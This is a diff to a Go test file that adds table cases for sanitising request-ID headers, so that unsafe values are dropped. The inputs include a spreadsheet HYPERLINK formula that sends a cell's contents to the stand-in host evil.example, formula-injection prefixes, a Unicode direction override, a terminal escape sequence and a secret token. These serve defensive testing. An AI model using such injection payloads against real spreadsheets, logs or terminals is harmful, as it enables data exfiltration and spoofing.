@@ -145,7 +145,16 @@ func TestTheServersRequestIDIsTakenOverIfItIsOne(t *testing.T) {
 		{"a gateway's", "X-Request-Id: 8080", "8080"},
 		{"Glance's before a gateway's", "X-Request-Id: 8080\r\nX-Openstack-Request-Id: req-1", "req-1"},
 		{"one that is too long", "X-Request-Id: " + strings.Repeat("x", 65), ""},
-		{"one that cannot be printed", "X-Request-Id: a\x80b", "a�b"},
+		{"one that cannot be printed", "X-Request-Id: a\x80b", ""},
+		{"every character of one", "X-Request-Id: req-1:A_z.9", "req-1:A_z.9"},
+		{"a formula", "X-Openstack-Request-Id: =HYPERLINK(\"http://evil.example/?\"&B2,\"open\")", ""},
+		{"a formula with a minus", "X-Openstack-Request-Id: -cmd", ""},
+		{"a formula before an id", "X-Request-Id: 8080\r\nX-Openstack-Request-Id: @x", "8080"},
+		{"some words", "X-Request-Id: a b", ""},
+		{"an override", "X-Request-Id: a\u202eb", ""},
+		{"a command of a terminal", "X-Request-Id: a\x1b[2J", ""},
+		{"the token", "X-Request-Id: " + token, ""},
+		{"an address and a number", "X-Request-Id: 10.0.0.1:80-a_B.7", "10.0.0.1:80-a_B.7"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
